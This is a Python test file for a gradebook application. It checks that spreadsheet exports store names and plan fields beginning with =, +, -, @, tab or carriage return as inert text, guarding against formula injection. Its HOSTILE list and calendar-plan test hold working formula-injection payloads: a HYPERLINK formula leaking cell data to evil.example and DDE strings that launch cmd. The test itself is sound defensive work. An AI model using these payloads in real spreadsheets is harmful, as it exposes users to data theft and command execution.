"""Exports that cannot execute (OWASP CSV/formula injection): a registry name beginning with
``=``, ``+``, ``-``, ``@``, a tab or a carriage return leaves every XLSX export as text, never as
a formula; genuine numbers stay numbers."""

from __future__ import annotations

import csv
from datetime import date, time
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook

import journal_rules as jr
import journal_rules_office as office
from journal_rules.commands import LoadCalendarPlan
from journal_rules.grading import GradeSheet
from journal_rules.importing import import_file, plan_import, write_templates
from journal_rules.model import CalendarPlan, PlannedClass
from journal_rules.testing import complete_term, demo_gradebook

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0",
           "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0"]
# A registry import strips leading whitespace (and a CSV refuses a bare carriage return), so text
# beginning with a tab or a carriage return reaches an export only from a document built in code.
WHITESPACE = ["\t=1+1", "\r=1+1"]


@pytest.fixture(scope="module")
def term(tmp_path_factory: pytest.TempPathFactory) -> tuple[jr.Gradebook, list[GradeSheet]]:
    """The demo term, with students of hostile names registered (through a contingent import)
    before the term is completed and its grade sheets formed."""
    book = demo_gradebook(jr.MemoryStore())
    group = book.directory.group("101")
    rows = [["academic_year", "group", "specialty", "year_of_study", "school", "language",
             "curation_dean", "student", "student_name"]]
    people = [(s.id, s.name) for s in book.directory.students_of("101")]
    people += [(f"s-evil-{i}", name) for i, name in enumerate(HOSTILE)]
    for sid, name in people:
        rows.append(["2025-2026", "101", group.specialty, str(group.year_of_study), group.school,
                     group.language, "curator", sid, name])
    path = tmp_path_factory.mktemp("contingent") / "contingent.csv"
    with path.open("w", encoding="utf-8", newline="") as f:
        csv.writer(f).writerows(rows)
    import_file(book, "or-insp", "contingent", path)
    assert isinstance(book.clock, jr.ManualClock)
    return book, complete_term(book, book.clock)


def _cells(path: Path) -> list[tuple[object, str]]:
    wb = load_workbook(path)  # not read-only: the cell's stored data type is what matters
    try:
        return [(c.value, c.data_type) for ws in wb.worksheets for row in ws.iter_rows()
                for c in row if c.value is not None]
    finally:
        wb.close()


def _assert_inert(cells: list[tuple[object, str]], expected: list[str]) -> None:
    assert not [v for v, t in cells if t == "f"], "a cell was stored as a formula"
    texts = {v for v, t in cells if t == "s"}
    for name in expected:
        stored = name.replace("\r", "\n")  # XML stores a carriage return as a line feed
        assert any(isinstance(t, str) and stored in t for t in texts), name


def test_grade_sheets_keep_hostile_names_as_text(
        term: tuple[jr.Gradebook, list[GradeSheet]], tmp_path: Path) -> None:
    _, sheets = term
    with_hostile = [s for s in sheets if any(r.name in HOSTILE for r in s.rows)]
    assert with_hostile, "no grade sheet lists the hostile students"
    for i, sheet in enumerate(with_hostile):
        cells = _cells(office.sheet_to_xlsx(sheet, tmp_path / f"{i}.xlsx"))
        _assert_inert(cells, [r.name for r in sheet.rows if r.name in HOSTILE])
        # genuine numbers stay numeric: the points of each row are numbers in the workbook
        numbers = [v for v, t in cells if t == "n"]
        assert any(isinstance(v, int | float) and v > 0 for v in numbers)


def test_mark_grid_keeps_hostile_names_as_text(
        term: tuple[jr.Gradebook, list[GradeSheet]], tmp_path: Path) -> None:
    book, _ = term
    cells = _cells(office.grid_to_xlsx(book, "anat/101/2025-1", tmp_path / "grid.xlsx"))
    _assert_inert(cells, HOSTILE)
    assert any(t == "n" for _, t in cells), "marks should be numbers"


def test_ktp_keeps_hostile_text_as_text_and_imports_back(tmp_path: Path) -> None:
    plan = CalendarPlan("anat", "2025-2026", 1, "=cmd|' /C calc'!A0", [
        PlannedClass(1, date(2025, 9, 1), time(9, 0), HOSTILE[0], Decimal(2), HOSTILE[1],
                        HOSTILE[3]),
        PlannedClass(2, date(2025, 9, 3), time(10, 30), "-1", Decimal("1.5"), "@x", "+7"),
    ], minutes_number="=1+1", minutes_date=date(2025, 8, 25), agreed_by="=A1")
    path = office.plan_to_xlsx(plan, tmp_path / "ktp.xlsx", unit_name="=2*3")
    _assert_inert(_cells(path), [HOSTILE[0], HOSTILE[1], HOSTILE[3], "=cmd|' /C calc'!A0"])
    book = demo_gradebook(jr.MemoryStore())
    command = plan_import(book, "plan", path)[0]
    assert isinstance(command, LoadCalendarPlan)
    assert command.plan == plan  # text in, the same text out


def test_text_beginning_with_tab_or_carriage_return_is_text(tmp_path: Path) -> None:
    plan = CalendarPlan("anat", "2025-2026", 1, "x", [
        PlannedClass(1, date(2025, 9, 1), time(9, 0), WHITESPACE[0], Decimal(2),
                        WHITESPACE[1], "r")])
    _assert_inert(_cells(office.plan_to_xlsx(plan, tmp_path / "ktp.xlsx")), WHITESPACE)


def test_templates_are_inert(tmp_path: Path) -> None:
    for path in write_templates(tmp_path):
        if path.suffix == ".xlsx":
            assert not [v for v, t in _cells(path) if t == "f"]
